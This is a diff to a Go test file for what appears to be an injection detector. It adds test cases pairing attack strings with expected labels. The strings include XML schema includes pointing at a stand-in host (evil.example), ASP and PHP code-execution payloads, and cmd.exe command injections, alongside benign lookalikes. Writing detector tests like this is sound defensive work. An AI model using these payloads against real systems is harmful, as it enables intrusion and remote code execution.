@@ -191,6 +191,15 @@ func TestInjectionShapes(t *testing.T) {
 		{`<%execute request("x")%>`, InField, "rce.code"},
 		{`"Ex"&"e"&"cute(""Server.ScriptTimeout=3600:On Error Resume Next`, InQuery, "rce.code"},
 		{`On Error Resume Next is how VBScript ignores errors`, InField, ""},
+		// Introspection, OAST hosts in headers, schema references, UTF-7
+		// documents, PHP complex-variable calls.
+		{`{ __schema { types { name } } }`, InField, "scanner.introspection"},
+		{`{ user { __typename name } }`, InField, ""},
+		{`<xs:include schemaLocation="http://evil.example/x.xsd"/>`, InMarkup, "xxe.entity"},
+		{`<x xsi:schemaLocation="http://evil.example/"/>`, InMarkup, "xxe.entity"},
+		{`<x xsi:schemaLocation="http://ns.example/a http://ns.example/a.xsd"/>`, InMarkup, ""},
+		{`<?xml version="1.0" encoding="UTF-7"?>+ADw-x+AD4-`, InBody, "xxe.entity"},
+		{`${@print(md5(31337))}`, InField, "rce.code"},
 		// cmd.exe FOR and IF.
 		{`for /f "delims=" %i in ('cmd /c whoami') do @echo %i`, InQuery, "rce.shell"},
 		{`& FOR %_ IN (a,b,c) DO cmd`, InQuery, "rce.shell"},
